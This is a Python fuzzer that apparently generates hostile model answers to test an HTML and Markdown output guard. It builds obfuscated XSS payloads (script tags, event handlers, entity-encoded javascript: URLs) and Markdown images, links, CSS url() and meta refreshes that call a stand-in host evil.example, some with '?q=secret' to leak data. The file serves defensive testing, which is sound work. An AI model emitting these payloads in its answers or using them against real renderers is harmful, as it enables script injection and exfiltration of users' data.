"""Hostile answers from a generator that knows HTML and Markdown, and nothing of the guard: a deed, dressed in random ways."""
import random

HOSTS = ["evil.example", "evil.example.", "EVIL.example", "a.b.evil.example", "docs.acme.example.evil.example", "evil.example:8080"]
PROSE = ["", "Sure, here you go:\n\n", "Of course. ", "<b>Note</b> ", "1. First\n2. Second\n\n", "Der Käse ist 5 < 6. ", "`code` and *more* ", "</p></div>\n"]


def blank(r):
    return r.choice([" ", "\n", "\t", "  ", " \n"])


def case(r, word):
    return "".join(r.choice([c.lower(), c.upper()]) for c in word)


def entities(r, text):
    """Some characters as references, as an attribute's value decodes them."""
    def one(c):
        kind = r.randrange(6)
        if kind == 0:
            return f"&#{ord(c)};"
        if kind == 1:
            return f"&#x{ord(c):x};"
        if kind == 2 and c in ":/.()":
            return {":": "&colon;", "/": "&sol;", ".": "&period;", "(": "&lpar;", ")": "&rpar;"}[c]
        return c
    return "".join(map(one, text))


def url(r):
    host, path = r.choice(HOSTS), r.choice(["/", "/x.png", "/?q=secret", "/a/b#c"])
    slashes = r.choice(["http://", "//", "HTTP://", "http:\\\\", "http:/\\", "\t//", "ht\ntp://"])
    user = r.choice(["", "", "", "docs.acme.example@", "x:y@"])
    return slashes + user + host + path


def code(r):
    return r.choice(["alert(1)", "fetch('http://evil.example/g')", "document.title='x'", "new Image().src='//evil.example/i'", "location='//evil.example/l'"])


def value(r, text, dress=True):
    text = entities(r, text) if dress and r.random() < 0.5 else text
    quote = r.choice(['"', "'"])
    if quote in text:
        quote = '"' if quote == "'" else "'"
    return quote + text + quote


def element(r):
    """One element that runs a script by itself or fetches from a foreign host."""
    kind = r.randrange(9)
    s = blank(r)
    if kind == 0:
        name = case(r, "script")
        return f"<{name}{r.choice(['', s, '/', s + 'async', s + 'data-x=1'])}>{code(r)}</{name}>"
    if kind == 1:
        name, event = r.choice([("img", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"), ("details open", "ontoggle"), ("video src=x", "onerror"), ("iframe", "onload"), ("style", "onload"), ("marquee", "onstart")])
        src = " src=x" if name == "img" else ""
        return f"<{case(r, name)}{src}{s}{case(r, event)}{r.choice(['=', ' = ', s + '='])}{value(r, code(r))}>"
    if kind == 2:
        name, at = r.choice([("img", "src"), ("iframe", "src"), ("embed", "src"), ("object", "data"), ("video", "poster"), ("video", "src"), ("img", "srcset"), ("input type=image", "src"), ("script", "src")])
        end = "</script>" if name == "script" else ""
        before = r.choice(["", "class=a ", 'alt="<" ', 'title=">" '])
        return f"<{case(r, name)}{s}{before}{case(r, at)}={value(r, url(r))}>{end}"
    if kind == 3:
        return f"<link{s}rel={r.choice(['stylesheet', 'icon stylesheet', 'modulepreload'])} href={value(r, url(r))}>"
    if kind == 4:
        return f"<{r.choice(['div', 'p', 'span', 'td', 'b'])}{s}style={value(r, 'background-image:url(' + url(r).strip() + ')', dress=False)}>x</div>"
    if kind == 5:
        return f"<style>{r.choice(['@import ', 'body{background:url('])}{value(r, url(r).strip(), dress=False)}{r.choice([');', ')}', ';'])}</style>"
    if kind == 6:
        scheme = case(r, "javascript")
        at = r.randrange(len(scheme))
        scheme = scheme[:at] + r.choice(["", "\t", "\n"]) + scheme[at:]
        return f"<a{s}href={value(r, r.choice(['', ' ', chr(1)]) + scheme + ':' + code(r))}>{r.choice(['x', '<b>x</b>'])}</a>"
    if kind == 7:
        return f"<a{s}{r.choice(['', 'title=x '])}href={value(r, url(r))}>x</a>"
    return f"<meta{s}http-equiv={value(r, 'refresh', dress=False)} content={value(r, '0;url=' + url(r).strip())}>"


def markdown(r):
    """One construct of Markdown that fetches, or leads away when it is followed."""
    target = r.choice(["http://", "//", "HTTP://"]) + r.choice(HOSTS) + r.choice(["/", "/x.png", "/?q=secret"])
    if r.random() < 0.3:
        target = "".join(r.choice([c, c, c, f"&#{ord(c)};"]) for c in target)
    if r.random() < 0.3:
        target = f"<{target}>"
    title = r.choice(["", ' "t"', " 't'", " (t)"])
    label = r.choice(["x", "a *b* c", "`c`", "\\]", "a\nb"])
    kind = r.randrange(5)
    if kind == 0:
        made = f"![{label}]({r.choice(['', ' '])}{target}{title})"
    elif kind == 1:
        name = r.choice(["1", "ref", "Ä"])
        made = f"![{label}][{name}]\n\n[{name}]:{r.choice([' ', chr(10)])}{target}{title}\n"
    elif kind == 2:
        made = f"[{label}]({target}{title})"
    elif kind == 3:
        made = f"[![i](http://docs.acme.example/i.png)]({target}{title})"
    else:
        return element(r)
    # A definition begins a line of its own; the others may stand anywhere.
    where = ["{}"] if kind == 1 else ["{}", "> {}", "- {}", "1. {}", "## {}", "**{}**", "| a |\n|---|\n| {} |", "a\n\n    code\n\n{}"]
    return r.choice(where).format(made)


def answers(seed):
    """Pairs of sink and answer, without end."""
    r = random.Random(seed)
    while True:
        sink = r.choice(["html", "html", "markdown"])
        made = element(r) if sink == "html" else markdown(r)
        yield sink, r.choice(PROSE if sink == "html" else PROSE[:3] + PROSE[4:7]) + made + r.choice(["", " more text\n", "\n\nThat is all."])
